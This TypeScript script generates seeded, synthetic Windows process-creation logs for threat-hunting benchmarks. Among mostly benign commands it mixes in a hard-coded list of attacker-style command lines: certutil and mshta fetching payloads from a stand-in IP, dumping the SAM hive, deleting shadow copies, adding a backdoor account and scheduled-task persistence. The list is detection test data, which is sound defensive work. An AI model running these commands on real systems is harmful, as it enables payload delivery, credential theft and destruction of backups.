/**
 * Generated process-creation logs for hunting benchmarks and tests: JSONL case lines
 * (`{"time", "cmd", "parent", "user", "host"}`, what `atlas hunt` and `atlas match --batch` read),
 * deterministic for a seed. Ordinary admin and user activity with varied arguments (so command
 * lines rarely repeat), a little suspicious activity sprinkled in, times one to a few seconds
 * apart.
 *
 * `npx tsx scripts/hunt/generate.ts [--events N] [--seed S] [--start ISO] > log.jsonl`
 */
import { pathToFileURL } from "node:url"

import { rng } from "../../lib/fuzz/mutate.ts"

const USERS = [
  "CORP\\alice",
  "CORP\\bob",
  "CORP\\carol",
  "CORP\\dave",
  "CORP\\erin",
  "NT AUTHORITY\\SYSTEM",
  "CORP\\svc_backup",
]
const HOSTS = Array.from({ length: 40 }, (_, i) => `ws-${String(i + 1).padStart(3, "0")}`)
const PARENTS = [
  "C:\\Windows\\explorer.exe",
  "C:\\Windows\\System32\\cmd.exe /c run.bat",
  "C:\\Windows\\System32\\services.exe",
  "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
  "C:\\Windows\\System32\\svchost.exe -k netsvcs",
]

type Pick = (r: () => number) => string
const n = (r: () => number, k: number) => Math.floor(r() * k)
const BENIGN: Pick[] = [
  (r) =>
    `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=${n(r, 1e6)} /prefetch:${n(r, 9)}`,
  (r) => `C:\\Windows\\System32\\svchost.exe -k LocalService -p -s W32Time${n(r, 100)}`,
  (r) => `notepad.exe C:\\Users\\Public\\Documents\\notes-${n(r, 5000)}.txt`,
  (r) =>
    `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Documents\\report-${n(r, 900)}.docx"`,
  (r) => `C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV${n(r, 3)}`,
  (r) => `git.exe status --porcelain=v${1 + n(r, 2)} -uall`,
  (r) => `C:\\Windows\\System32\\taskhostw.exe KEYROAMING${n(r, 50)}`,
  (r) => `ping.exe -n ${1 + n(r, 4)} 10.0.${n(r, 255)}.${n(r, 255)}`,
  (r) => `C:\\Windows\\System32\\SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe${n(r, 300)}`,
  (r) => `node.exe C:\\build\\scripts\\task-${n(r, 400)}.js --watch`,
  (r) => `python.exe -m pip install package${n(r, 800)}`,
  (r) => `C:\\Windows\\System32\\dllhost.exe /Processid:{${n(r, 1e8)}}`,
  (r) => `powershell.exe -NoProfile -Command Get-ChildItem C:\\Users\\Public\\dir${n(r, 200)}`,
  (r) => `cmd.exe /c dir C:\\temp\\${n(r, 1000)}`,
  () => `whoami.exe`,
  () => `ipconfig.exe /all`,
  () => `tasklist.exe /v /fo csv`,
  (r) => `icacls.exe C:\\Shares\\team${n(r, 50)} /grant CORP\\team:(OI)(CI)M`,
  (r) => `nslookup.exe host${n(r, 99)}.corp.example`,
  () => `sc.exe query wuauserv`,
]
const SUSPICIOUS: Pick[] = [
  () => `certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\\Users\\Public\\p.exe`,
  () => `rundll32.exe C:\\Users\\Public\\x.dll,DllRegisterServer`,
  () => `reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save`,
  () => `vssadmin.exe delete shadows /all /quiet`,
  (r) => `wmic.exe /node:10.0.0.${n(r, 255)} process call create calc.exe`,
  () => `schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon`,
  () => `net.exe user backdoor P@ssw0rd! /add`,
  () => `mshta.exe http://198.51.100.7/a.hta`,
]

export type GenOptions = { events: number; seed?: number; start?: string; suspicious?: number }

/** The log's lines, one at a time (JSON text without the newline). */
export function* processLogLines(o: GenOptions): Generator<string> {
  const r = rng(o.seed ?? 1)
  let t = Date.parse(o.start ?? "2026-01-05T08:00:00Z")
  const share = o.suspicious ?? 0.002
  for (let i = 0; i < o.events; i++) {
    t += 200 + n(r, 2000)
    const pool = r() < share ? SUSPICIOUS : BENIGN
    const cmd = pool[n(r, pool.length)]!(r)
    yield JSON.stringify({
      time: new Date(t).toISOString(),
      cmd,
      parent: PARENTS[n(r, PARENTS.length)],
      user: USERS[n(r, USERS.length)],
      host: HOSTS[n(r, HOSTS.length)],
    })
  }
}

function main(): void {
  const args = process.argv.slice(2)
  const opt = (name: string) => {
    const i = args.indexOf(`--${name}`)
    return i >= 0 ? args[i + 1] : undefined
  }
  const events = Number(opt("events") ?? 100_000)
  const o: GenOptions = { events, seed: Number(opt("seed") ?? 1) }
  const start = opt("start")
  if (start) o.start = start
  let buf: string[] = []
  for (const line of processLogLines(o)) {
    buf.push(line)
    if (buf.length >= 5000) {
      process.stdout.write(`${buf.join("\n")}\n`)
      buf = []
    }
  }
  if (buf.length) process.stdout.write(`${buf.join("\n")}\n`)
}

// Run as a script, not when imported, nor when bundled into another script (bench:hunt:js).
if (
  /generate\.[cm]?[jt]s$/.test(process.argv[1] ?? "") &&
  import.meta.url === pathToFileURL(process.argv[1] ?? "").href
)
  main()
